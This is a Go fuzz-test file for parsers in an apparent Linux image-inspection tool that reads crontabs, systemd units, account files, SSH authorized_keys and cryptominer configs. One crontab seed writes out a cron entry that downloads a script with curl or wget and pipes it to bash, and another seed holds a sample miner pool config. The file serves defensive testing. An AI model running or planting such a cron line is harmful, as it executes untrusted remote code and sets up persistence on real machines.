package linux

import (
	"bytes"
	"reflect"
	"strings"
	"testing"
)

// The parsers read bytes straight from an image: they must never panic and
// must only report lines that exist.

func lineCount(b []byte) int { return bytes.Count(b, []byte("\n")) + 1 }

func FuzzParseCrontab(f *testing.F) {
	f.Add([]byte("SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n@reboot root /x\n"), true)
	f.Add([]byte("* * * * * (curl -s http://x/gi.sh || wget -qO- http://x/gi.sh) | bash\n# c\n\\\n"), false)
	f.Add([]byte("1 5 cron.daily run-parts /etc/cron.daily\n"), false)
	f.Fuzz(func(t *testing.T, data []byte, system bool) {
		n := lineCount(data)
		jobs, env, bad := ParseCrontab(data, system)
		for _, j := range jobs {
			if j.Line < 1 || j.Line > n || j.Command == "" {
				t.Fatalf("job %+v", j)
			}
			JudgeCommand(j.Command)
		}
		for _, e := range env {
			if e.Line < 1 || e.Line > n {
				t.Fatalf("env %+v", e)
			}
		}
		for _, b := range bad {
			if b < 1 || b > n {
				t.Fatalf("bad %d", b)
			}
		}
		ParseAnacrontab(data)
		ParseInittab(data)
		shellLines(data)
	})
}

func FuzzParseUnit(f *testing.F) {
	f.Add([]byte("[Unit]\nDescription=x\n[Service]\nExecStart=/bin/a \\\n  b\n# c\n[Install]\nWantedBy=multi-user.target\n"))
	f.Add([]byte("[Service\nExecStart=\\"))
	f.Fuzz(func(t *testing.T, data []byte) {
		n := lineCount(data)
		kvs, bad := ParseUnit(data)
		for _, kv := range kvs {
			if kv.Line < 1 || kv.Line > n || kv.Key == "" {
				t.Fatalf("kv %+v", kv)
			}
			ExecCommand(kv.Value)
		}
		for _, b := range bad {
			if b < 1 || b > n {
				t.Fatalf("bad %d", b)
			}
		}
	})
}

func FuzzParseAccounts(f *testing.F) {
	f.Add([]byte("root:x:0:0:root:/root:/bin/bash\n+::::::\nx:y\n"))
	f.Add([]byte("root:$y$j9T$abc:19787:0:99999:7:::\nsudo:x:27:alice,bob\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		pw, _ := ParsePasswd(data)
		for _, p := range pw {
			if p.Name == "" || strings.Contains(p.Shell, ":") {
				t.Fatalf("passwd %+v", p)
			}
		}
		sh, _ := ParseShadow(data)
		for _, s := range sh {
			passwordState(s.Hash)
		}
		ParseGroup(data)
		ParseHosts(data)
		ParsePreload(data)
		ParseFirewall(data, false)
		ParseFirewall(data, true)
	})
}

func FuzzParseAuthorizedKeys(f *testing.F) {
	f.Add([]byte("command=\"echo \\\"a\\\"\",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJaXU5rKZ2J0ZQqH3x1JmHc3Yy2hY7c8m4QkSx9xV2sR c\n"))
	f.Add([]byte("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQ== x\nssh-rsa AAAAB3NzaC1yc2EAAAAD\n\"unterminated ssh-rsa AAAA\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		n := lineCount(data)
		keys, bad := ParseAuthorizedKeys(data)
		for _, k := range keys {
			if k.Line < 1 || k.Line > n || !strings.HasPrefix(k.Fingerprint, "SHA256:") || !isKeyType(k.Type) || k.Bits < 0 {
				t.Fatalf("key %+v", k)
			}
		}
		for _, b := range bad {
			if b < 1 || b > n {
				t.Fatalf("bad %d", b)
			}
		}
	})
}

func FuzzParseMinerConfig(f *testing.F) {
	f.Add([]byte(`{"donate-level":1,"pools":[{"url":"x:3333","user":"w"}]}`))
	f.Add([]byte(`{"pool_list":[{"pool_address":1,"wallet_address":null}],"pools":"x"}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		a, errA := ParseMinerConfig(data)
		b, errB := ParseMinerConfig(data)
		if !reflect.DeepEqual(a, b) || (errA == nil) != (errB == nil) {
			t.Fatalf("two parses differ: %+v (%v), %+v (%v)", a, errA, b, errB)
		}
	})
}
